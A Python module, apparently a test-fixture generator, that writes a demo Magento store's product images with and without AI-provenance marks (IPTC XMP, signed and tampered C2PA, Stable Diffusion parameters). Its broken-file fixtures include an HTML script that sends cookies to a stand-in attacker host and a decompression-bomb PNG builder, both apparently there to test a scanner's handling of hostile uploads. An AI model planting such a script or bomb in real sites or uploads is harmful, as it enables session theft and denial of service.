"""The demo store's gallery files: a small pool of rendered product shots (plain, IPTC-marked,
C2PA-signed, tampered, with Stable Diffusion parameters) whose bytes the gallery files reuse, the
deliberately broken files, Magento's dispersion path for an uploaded file, and a few of the cached
derivatives Magento's image helper renders from them (``catalog/product/cache/<hash>/…``).

AI marks are IPTC ``Iptc4xmpExt:DigitalSourceType`` ``trainedAlgorithmicMedia`` in XMP (both the
attribute and the element form) and C2PA manifests signed with :mod:`provenance.standards.
content_credentials`; PNGs may carry an AUTOMATIC1111 ``parameters`` text chunk.
"""

from __future__ import annotations

import hashlib
import io
import random
import struct
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from provenance.standards.content_credentials import SigningCredentials, created_manifest, manifest_sign
from provenance.standards.media_marks import TRAINED_ALGORITHMIC_MEDIA
from provenance.standards.xmp import xmp_embed, xmp_packet

IPTC_EXT_NAMESPACE = "http://iptc.org/std/Iptc4xmpExt/2008-02-29/"

_AUTOMATIC1111_PARAMETERS = (
    "product photo of a white supplement bottle on a clean bathroom shelf, soft daylight\n"
    "Negative prompt: text, watermark, blurry\n"
    "Steps: 28, Sampler: DPM++ 2M Karras, CFG scale: 6.5, Seed: 1234567890, Size: 64x64, "
    "Model hash: 31e35c80fc, Model: sd_xl_base_1.0"
)
_NOT_AN_IMAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Access denied</title></head>\n"
    b"<body><h1>403</h1><script>document.location='https://attacker.example.test/'+document.cookie"
    b"</script></body></html>\n"
)


def _xmp_packet(element_form: bool) -> bytes:
    if element_form:
        description = (
            f'<rdf:Description rdf:about="" xmlns:Iptc4xmpExt="{IPTC_EXT_NAMESPACE}">'
            f"<Iptc4xmpExt:DigitalSourceType>{TRAINED_ALGORITHMIC_MEDIA}</Iptc4xmpExt:DigitalSourceType>"
            "</rdf:Description>"
        )
    else:
        description = (
            f'<rdf:Description rdf:about="" xmlns:Iptc4xmpExt="{IPTC_EXT_NAMESPACE}" '
            f'Iptc4xmpExt:DigitalSourceType="{TRAINED_ALGORITHMIC_MEDIA}"/>'
        )
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        f"{description}</rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


def _draw_product(rng: random.Random):
    from PIL import Image, ImageDraw

    width, height = rng.randint(32, 96), rng.randint(32, 96)
    background = tuple(rng.randint(200, 255) for _ in range(3))
    ink = tuple(rng.randint(0, 160) for _ in range(3))
    accent = tuple(rng.randint(60, 230) for _ in range(3))
    image = Image.new("RGB", (width, height), background)
    draw = ImageDraw.Draw(image)
    shape = rng.randrange(4)
    if shape == 0:  # bottle
        draw.rectangle((width * 0.3, height * 0.3, width * 0.7, height * 0.9), fill=ink)
        draw.rectangle((width * 0.38, height * 0.12, width * 0.62, height * 0.3), fill=accent)
    elif shape == 1:  # capsule
        draw.ellipse((width * 0.15, height * 0.35, width * 0.85, height * 0.65), fill=ink)
        draw.ellipse((width * 0.5, height * 0.35, width * 0.85, height * 0.65), fill=accent)
    elif shape == 2:  # thermometer
        draw.line((width * 0.2, height * 0.8, width * 0.8, height * 0.2), fill=ink, width=max(2, width // 12))
        draw.ellipse((width * 0.1, height * 0.7, width * 0.3, height * 0.9), fill=accent)
    else:  # cross
        draw.rectangle((width * 0.4, height * 0.15, width * 0.6, height * 0.85), fill=accent)
        draw.rectangle((width * 0.15, height * 0.4, width * 0.85, height * 0.6), fill=accent)
    return image


def _encode(image, fmt: str, *, xmp: bytes | None = None, parameters: str | None = None) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    buffer = io.BytesIO()
    if fmt == "jpg":
        options = {"xmp": xmp} if xmp else {}
        image.save(buffer, "JPEG", quality=85, **options)
    elif fmt == "webp":
        options = {"xmp": xmp} if xmp else {}
        image.save(buffer, "WEBP", quality=80, method=4, **options)
    else:
        info = PngInfo()
        if xmp:
            info.add_itxt("XML:com.adobe.xmp", xmp.decode())
        if parameters:
            info.add_text("parameters", parameters)
        image.save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


@dataclass
class _ImagePool:
    """A few dozen encoded images, rendered once; gallery files reuse their bytes."""

    plain: dict[str, list[bytes]]
    ai_marked: dict[str, list[bytes]]
    parameters: list[bytes]
    c2pa_signed: dict[str, list[bytes]] = field(default_factory=dict)
    c2pa_tampered: list[bytes] = field(default_factory=list)

    def sign(self, credentials: SigningCredentials, seed: int) -> None:
        """Add images marked as a generation pipeline marks them (IPTC XMP + signed C2PA manifest),
        and C2PA-signed JPEGs whose pixels were changed after signing."""
        rng = random.Random(f"{seed}:c2pa-pool")

        def signed(fmt: str, *, xmp: bool) -> bytes:
            data = _encode(_draw_product(rng), fmt)
            if xmp:
                data = xmp_embed(
                    data,
                    xmp_packet(digital_source_type=TRAINED_ALGORITHMIC_MEDIA, creator_tool=_DEMO_GENERATOR),
                )
            manifest = created_manifest(
                title="Demo product shot",
                digital_source_type=TRAINED_ALGORITHMIC_MEDIA,
                generator=_DEMO_GENERATOR,
                generator_version="2.1",
                claim_generator="Provenant demo pipeline",
                claim_generator_version="1",
            )
            mime = {"jpg": "image/jpeg", "png": "image/png", "webp": "image/webp"}[fmt]
            return manifest_sign(data, mime, manifest=manifest, credentials=credentials)

        self.c2pa_signed = {fmt: [signed(fmt, xmp=True) for _ in range(2)] for fmt in _POOL_SIZES}
        for _ in range(2):
            data = bytearray(signed("jpg", xmp=False))
            data[-64] ^= 0x01  # inside the entropy-coded scan: the C2PA data hash no longer matches
            self.c2pa_tampered.append(bytes(data))

    @classmethod
    def render(cls, seed: int) -> _ImagePool:
        rng = random.Random(f"{seed}:image-pool")
        plain = {fmt: [_encode(_draw_product(rng), fmt) for _ in range(n)] for fmt, n in _POOL_SIZES.items()}
        ai_marked = {
            fmt: [_encode(_draw_product(rng), fmt, xmp=_xmp_packet(i % 2 == 1)) for i in range(n)]
            for fmt, n in _AI_POOL_SIZES.items()
        }
        parameters = [
            _encode(_draw_product(rng), "png", parameters=_AUTOMATIC1111_PARAMETERS) for _ in range(2)
        ]
        return cls(plain, ai_marked, parameters)


_POOL_SIZES = {"jpg": 24, "png": 6, "webp": 4}
_DEMO_GENERATOR = "Demo image studio"
_AI_POOL_SIZES = {"jpg": 4, "png": 2, "webp": 2}


def _decompression_bomb_png(width: int = 50_000, height: int = 50_000) -> bytes:
    """A valid-looking PNG whose header declares ``width`` x ``height`` RGB pixels.

    Only the first scanline is present, so the file stays under a kilobyte; nothing ever
    allocates the pixels.
    """

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    first_row = zlib.compress(b"\x00" * (width * 3 + 1), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", first_row) + chunk(b"IEND", b"")


# Two image roles' cache directories. Magento names them with an HMAC of the resize parameters
# keyed with the store's crypt key; the demo uses the MD5 of the parameters alone.
DERIVATIVE_ROLES = {
    hashlib.md5(
        b"w:265_h:265_q:80_r:empty_proportional_frame_notransparency_notconstrainonly_rgb255,255,255",
        usedforsecurity=False,
    ).hexdigest(): 265,
    hashlib.md5(
        b"w:140_h:140_q:80_r:empty_proportional_frame_notransparency_notconstrainonly_rgb255,255,255",
        usedforsecurity=False,
    ).hexdigest(): 140,
}
_GD_QUALITY = 80


def render_derivative(data: bytes, side: int, *, keep_xmp: bytes | None = None) -> bytes:
    """``data`` rendered as Magento's GD2 adapter renders an image role: scaled to fit ``side`` x
    ``side`` keeping the aspect ratio, framed on white, saved in the original's format at quality 80
    with no metadata at all, or with ``keep_xmp`` put back (the module's KeepDigitalSourceType)."""
    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    with Image.open(io.BytesIO(data)) as source:
        fmt = source.format
        picture = source.convert("RGB")
    scale = side / max(picture.size)
    resized = picture.resize(
        (max(1, round(picture.width * scale)), max(1, round(picture.height * scale))),
        Image.Resampling.BICUBIC,
    )
    framed = Image.new("RGB", (side, side), (255, 255, 255))
    framed.paste(resized, ((side - resized.width) // 2, (side - resized.height) // 2))
    buffer = io.BytesIO()
    if fmt == "PNG":
        info = PngInfo()
        if keep_xmp:
            info.add_itxt("XML:com.adobe.xmp", keep_xmp.decode())
        framed.save(buffer, "PNG", pnginfo=info)
    else:
        options = {"xmp": keep_xmp} if keep_xmp else {}
        framed.save(buffer, "WEBP" if fmt == "WEBP" else "JPEG", quality=_GD_QUALITY, **options)
    return buffer.getvalue()


def gallery_path(file_name: str) -> str:
    """Magento's dispersion path for an uploaded file: ``ab123.jpg`` -> ``/a/b/ab123.jpg``."""
    name = file_name.lower()
    first = name[0] if name[0] != "." else "_"
    second = (name[1] if len(name) > 1 else "_").replace(".", "_")
    return f"/{first}/{second}/{name}"


class ImageFiles:
    """Writes gallery files under ``<media_root>/catalog/product`` (nothing without a media root)
    and counts what kinds of file it wrote."""

    def __init__(self, media_root: Path | None, *, seed: int, c2pa: SigningCredentials | None = None) -> None:
        self.media_base = media_root / "catalog" / "product" if media_root else None
        # The choice of bytes uses its own random stream, so rows do not depend on media_root.
        self.rng = random.Random(f"{seed}:files")
        self.pool = _ImagePool.render(seed) if media_root else None
        if self.pool is not None and c2pa is not None:
            self.pool.sign(c2pa, seed)
        self.made_dirs: set[Path] = set()
        self.files_written = 0
        self.ai_marked = 0
        self.c2pa_signed = 0
        self.c2pa_tampered = 0
        self.parameters = 0
        self.png_count = 0
        self.derivatives = 0
        self.derivatives_with_xmp = 0
        self._derived = 0

    def write(self, path: str, fmt: str, *, fault: str | None = None) -> None:
        """The file of one gallery entry: a fault's broken file, or bytes from the pool (about one in
        ten AI-marked, some C2PA-signed or tampered, some PNGs with generation parameters)."""
        rng = self.rng
        ai_roll = rng.random()
        if fmt == "png":
            self.png_count += 1
        if self.pool is None or fault == "missing_file":
            return
        if fault == "truncated_jpeg":
            data = self.pool.plain["jpg"][0]
            self._write_file(path, data[: len(data) // 2])
        elif fault == "decompression_bomb":
            self._write_file(path, _decompression_bomb_png())
        elif fault == "not_an_image":
            self._write_file(path, _NOT_AN_IMAGE)
        elif fmt == "png" and self.png_count % 20 == 3:
            self._write_file(path, data := rng.choice(self.pool.parameters))
            self.parameters += 1
            self._write_derivatives(path, data, marked=False)
        elif ai_roll < 0.04 and self.pool.c2pa_signed:
            self._write_file(path, data := rng.choice(self.pool.c2pa_signed[fmt]))
            self.ai_marked += 1
            self.c2pa_signed += 1
            self._write_derivatives(path, data, marked=True)
        elif ai_roll < 0.1:
            self._write_file(path, data := rng.choice(self.pool.ai_marked[fmt]))
            self.ai_marked += 1
            self._write_derivatives(path, data, marked=True)
        elif ai_roll < 0.115 and fmt == "jpg" and self.pool.c2pa_tampered:
            self._write_file(path, rng.choice(self.pool.c2pa_tampered))
            self.c2pa_tampered += 1
        else:
            self._write_file(path, data := rng.choice(self.pool.plain[fmt]))
            if self.files_written % 10 == 0:  # human-made images have derivatives too
                self._write_derivatives(path, data, marked=False)

    def _write_derivatives(self, path: str, data: bytes, *, marked: bool) -> None:
        """The role sizes of ``path`` in the cache; one in three derivatives of a marked image keeps
        its IPTC XMP (rendered with the Magento module's plugin), the others keep nothing."""
        for cache_hash, side in DERIVATIVE_ROLES.items():
            self._derived += 1
            keep = _xmp_packet(False) if marked and self._derived % 3 == 0 else None
            self._write_file(
                f"/cache/{cache_hash}{path}", render_derivative(data, side, keep_xmp=keep), count=False
            )
            self.derivatives += 1
            self.derivatives_with_xmp += keep is not None

    def _write_file(self, path: str, data: bytes, *, count: bool = True) -> None:
        if self.media_base is None:
            return
        target = self.media_base / path.lstrip("/")
        if target.parent not in self.made_dirs:
            target.parent.mkdir(parents=True, exist_ok=True)
            self.made_dirs.add(target.parent)
        target.write_bytes(data)
        self.files_written += count
